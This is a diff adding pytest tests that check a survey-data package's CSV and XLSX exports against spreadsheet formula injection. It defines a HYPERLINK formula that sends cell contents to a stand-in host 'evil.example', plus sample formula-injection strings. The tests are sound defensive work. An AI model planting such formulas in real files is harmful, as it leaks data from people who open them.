@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pandas as pd
 import pytest
 from openpyxl import load_workbook
@@ -150,3 +153,48 @@ def test_wide_table_with_unknown_column_is_refused(tiny_instrument, tiny_respons
     with pytest.raises(InputError) as exc:
         from_wide(wide, tiny_instrument)
     assert any(p.field == "q9" and p.line == 1 for p in exc.value.problems)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+
+
+def _evil(tiny_responses: pd.DataFrame) -> pd.DataFrame:
+    df = tiny_responses.copy()
+    df.loc[df["item"] == "open1", "value"] = EVIL
+    df.loc[df["item"] == "years", "value"] = "-3"
+    return df
+
+
+def test_csv_exports_neutralise_formulas(tiny_instrument, tiny_responses, tmp_path):
+    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading quote."""
+    from s3stresstest.transfer.safe import csv_cell
+
+    df = _evil(tiny_responses)
+    long_text = write_long_csv(df, tmp_path / "long.csv").read_text(encoding="utf-8")
+    wide_text = write_wide_csv(df, tiny_instrument, tmp_path / "wide.csv").read_text(encoding="utf-8")
+    for text in (long_text, wide_text):
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert "'" + EVIL in cells and EVIL not in cells
+        assert "-3" in cells  # a plain number stays a number
+    assert [csv_cell(v) for v in ("+1+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "-3", "2.5", "ok")] == [
+        "'+1+1",
+        "'-1+A1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "-3",
+        "2.5",
+        "ok",
+    ]
+
+
+def test_xlsx_export_writes_no_live_formula(tiny_instrument, tiny_responses, tmp_path):
+    import zipfile
+
+    path = write_wide_xlsx(_evil(tiny_responses), tiny_instrument, tmp_path / "w.xlsx")
+    with zipfile.ZipFile(path) as z:
+        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "HYPERLINK" in xml
+    ws = load_workbook(path)["responses"]
+    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
+    assert cells and all(c.data_type == "s" for c in cells)
